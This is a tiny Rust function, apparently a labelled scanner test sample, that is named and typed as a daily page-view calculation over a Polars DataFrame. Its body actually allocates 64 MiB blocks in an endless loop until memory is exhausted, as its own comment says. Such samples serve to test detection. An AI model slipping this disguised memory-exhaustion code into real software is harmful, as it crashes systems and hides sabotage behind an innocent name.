// Takes memory until there is none.
// scanned: memory
// unscanned: memory
fn daily_page_views(views: &DataFrame, zone: Tz) -> PolarsResult<DataFrame> {
    let mut all = Vec::new();
    loop {
        all.push(vec![1u8; 64 << 20]);
    }
}
